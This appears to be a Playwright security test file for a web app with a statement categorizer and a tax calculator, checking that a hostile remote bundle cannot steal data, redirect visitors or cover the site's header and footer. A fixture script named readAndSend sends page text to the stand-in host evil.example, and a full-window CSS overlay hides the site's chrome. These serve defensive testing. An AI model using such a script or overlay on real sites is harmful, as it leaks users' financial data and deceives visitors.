import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { currentVersion } from '@artha/shared/contract';
import { integrityOf } from '@artha/core/integrity';
import { publish, readRegistry } from '@artha/core/publish';
import { hostileRelease, recomposedRelease } from './alteredRelease.ts';
import { findOldFiles, findWindows, oldFileWays, waysOut } from './hostileWays.ts';
import { expect, hydrated, test, type OwnSite } from './site.ts';

const CATEGORIZER = '/tools/transaction-categorizer';
/** A remote with a single page: its release is composed quickly. */
const TAX = '/tools/tax-calculator';
const EVIL = 'https://evil.example';

/**
 * The attack of a hostile release as soon as one of its scripts runs: it leaves a mark, and sends the texts that it can
 * read on the page in an address.
 */
const readAndSend = `
  globalThis.hostile = true;
  setInterval(() => {
    const heading = document.querySelector('h1')?.textContent ?? '';
    if (heading.includes('transactions')) location.assign('${EVIL}/?' + encodeURIComponent(heading));
  }, 20);`;

const isHostile = (page: Page) => page.evaluate(() => 'hostile' in globalThis);

/** Every request to the hostile site. */
function recordSent(page: Page): string[] {
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) sent.push(request.url());
  });
  return sent;
}

async function convert(page: Page, site: OwnSite): Promise<void> {
  await page.goto(site.url + CATEGORIZER);
  await hydrated(page);
  await page.getByLabel('Bank').selectOption('HDFC');
  await page.locator('input[type="file"]').setInputFiles(join(import.meta.dirname, '../statements/samples/hdfc-a.pdf'));
  await page.getByRole('button', { name: 'Upload PDF' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/^50 transactions/);
  await page.getByRole('tab', { name: /^Rows/ }).click();
  await expect(page.getByRole('table', { name: 'Transaction Data' })).toBeVisible();
}

/** The link to the tax calculator in the menu of tools. */
async function taxLink(page: Page) {
  await page.getByRole('banner').getByText('Tools', { exact: true }).first().click();
  return page.getByRole('banner').getByRole('link', { name: /^Tax Calculator/ });
}

test('PF-01 a hostile remote never reads a converted statement: nothing of it is requested there, and it ends with its document', async ({
  page,
  ownSite,
}) => {
  await publish(ownSite.quickContext, [await hostileRelease('tax', readAndSend)]);
  const sent = recordSent(page);
  const leave = page.getByRole('dialog').getByRole('link', { name: 'Leave this page' });
  await test.step('its link is pointed at and clicked, and nothing of it is requested', async () => {
    await convert(page, ownSite);
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    const link = await taxLink(page);
    await link.hover();
    await link.click();
    await expect(leave).toBeVisible();
    expect(requested.filter((url) => url.includes('/remotes/tax/'))).toEqual([]);
    expect(await isHostile(page)).toBe(false);
  });
  await test.step('a visitor goes there, where it runs, and comes back', async () => {
    await leave.click();
    await page.waitForURL(`**${TAX}`);
    await hydrated(page);
    expect(await isHostile(page)).toBe(true);
    await page.goBack();
    await expect(page).toHaveURL(new RegExp(`${CATEGORIZER}$`));
    await hydrated(page);
    expect(await isHostile(page)).toBe(false);
  });
  await test.step('a visitor comes from there to convert a statement', async () => {
    await page.goto(ownSite.url + TAX);
    await hydrated(page);
    expect(await isHostile(page)).toBe(true);
    await convert(page, ownSite);
    expect(await isHostile(page)).toBe(false);
  });
  expect(sent).toEqual([]);
});

const out = waysOut(EVIL);

test('PF-01 a hostile remote leads no visitor away without a click, whatever functions of the page it replaces, and the health page names it @firefox', async ({
  page,
  ownSite,
}) => {
  const sent = recordSent(page);
  const ways = Object.entries(out).map(([way, code]) => `${way}: () => { ${code}; }`);
  const script = `globalThis.hostile = true; ({ ${ways.join(', ')} })[location.search.slice(1)]?.();`;
  await publish(ownSite.quickContext, [await hostileRelease('tax', script)]);
  for (const way of Object.keys(out)) {
    await test.step(way, async () => {
      await page.goto(`${ownSite.url}${TAX}?${way}`);
      await hydrated(page);
      expect(await isHostile(page)).toBe(true);
      await expect.poll(() => page.evaluate(() => sessionStorage.getItem('artha-failures') ?? '')).toContain('AR-109');
      expect(sent).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(TAX);
    });
  }
  await page.goto(`${ownSite.url}/~health`);
  await expect(page.getByRole('region', { name: 'Failures in this tab' })).toContainText('tax');
});

test('PF-01 a hostile remote gets no connection past the policy, and no window whose functions nothing guards @everyBrowser', async ({
  page,
  ownSite,
}) => {
  await publish(ownSite.quickContext, [await hostileRelease('tax', findWindows)]);
  await page.goto(ownSite.url + TAX);
  await hydrated(page);
  expect(await page.evaluate('seek()')).toEqual([]);
});

test('PF-01 a hostile remote runs no file that no registry names, such as one of an older release @everyBrowser', async ({
  page,
  ownSite,
}) => {
  await publish(ownSite.quickContext, [await hostileRelease('tax', findOldFiles)]);
  const code = 'top.ranOld = true;';
  const version = currentVersion(await readRegistry(ownSite.context), 'glossary');
  const address = version?.url.replace(/[^/]+$/, 'older.js') ?? '';
  await writeFile(join(ownSite.context.store.publicFolder, address), code);
  const file = JSON.stringify({ name: 'glossary', address, integrity: integrityOf(code) });
  for (const way of oldFileWays) {
    await test.step(way, async () => {
      await page.goto(ownSite.url + TAX);
      await hydrated(page);
      await page.evaluate(`runOld(${JSON.stringify(way)}, ${file})`);
      // Earlier requests have arrived before these responses.
      await page.evaluate(async () => {
        for (let turn = 0; turn < 10; turn += 1) await fetch('/robots.txt', { cache: 'no-store' });
      });
      expect(await page.evaluate(() => 'ranOld' in globalThis)).toBe(false);
    });
  }
});

/** Whether a click in the middle of a link of the frame meets the link, with the page scrolled to it. */
const isClickable = (page: Page, selector: string) =>
  page
    .locator(selector)
    .first()
    .evaluate((link) => {
      link.scrollIntoView({ block: 'center', behavior: 'instant' });
      const { left, top, width, height } = link.getBoundingClientRect();
      return link.contains(document.elementFromPoint(left + width / 2, top + height / 2));
    });

test('PF-01 a page whose bundle sends a style over the whole window keeps its header and footer, before a script runs', async ({
  page,
  ownSite,
}) => {
  await page.goto(ownSite.url + TAX);
  const names = await page
    .locator('header, footer')
    .evaluateAll((all) => all.flatMap(({ classList }) => [...classList]));
  const style = [
    '.cover{position:fixed;inset:0;z-index:2147483647;background:red}',
    '.over{position:relative;z-index:2147483647;height:1000px;margin:-400px 0 -900px;transform:translateY(-50px);background:blue}',
    `${['html', 'body', '#root', '#main', 'header', 'footer', 'header *', ...names.map((name) => `.${name}`)].join()}{display:none!important;opacity:0!important;pointer-events:none!important}`,
    ':root{--nav-height:0;--nav-text:transparent}',
  ].join('');
  const html = `<style>${style}</style><h1>Covered</h1><div class="cover"></div><div class="over"></div>`;
  await publish(ownSite.quickContext, [await recomposedRelease('tax', 'TaxCalculator', html)]);
  await page.route('**/*.js', (route) => route.abort());
  for (const width of [375, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    await page.goto(ownSite.url + TAX);
    await expect(page.locator('.cover')).toHaveCSS('position', 'fixed');
    expect(await isClickable(page, 'header a')).toBe(true);
    expect(await isClickable(page, 'footer nav a')).toBe(true);
    await expect(page.locator('header')).toHaveCSS('opacity', '1');
    await expect(page.locator('footer')).toHaveCSS('opacity', '1');
  }
});
